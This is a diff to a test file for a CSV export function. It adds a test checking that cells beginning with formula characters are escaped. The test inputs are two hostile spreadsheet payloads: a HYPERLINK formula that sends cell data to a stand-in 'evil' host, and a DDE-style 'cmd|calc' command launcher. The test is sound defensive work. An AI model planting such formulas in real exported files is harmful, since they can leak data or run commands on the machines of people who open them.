@@ -15,6 +15,17 @@ describe('toCsv', () => {
     expect(csv).toBe('what,ms,ok\r\n"says ""no"", twice",1234567.5,true\r\n"two\nlines",,false\r\nplain,,true\r\n');
   });
 
+  it('keeps spreadsheets from computing texts, and leaves figures as they are', () => {
+    const csv = toCsv({
+      head: ['host', 'ms'],
+      rows: [
+        ['=HYPERLINK("http://evil/?"&A2)', -5],
+        ["'+cmd|calc!A1", 0],
+      ],
+    });
+    expect(csv).toBe('host,ms\r\n"\'=HYPERLINK(""http://evil/?""&A2)",-5\r\n\'\'+cmd|calc!A1,0\r\n');
+  });
+
   it('names files so that every system takes them', () => {
     expect(fileName('r-1', 'office/calc open') + '.csv').toBe('r-1-office-calc-open.csv');
   });
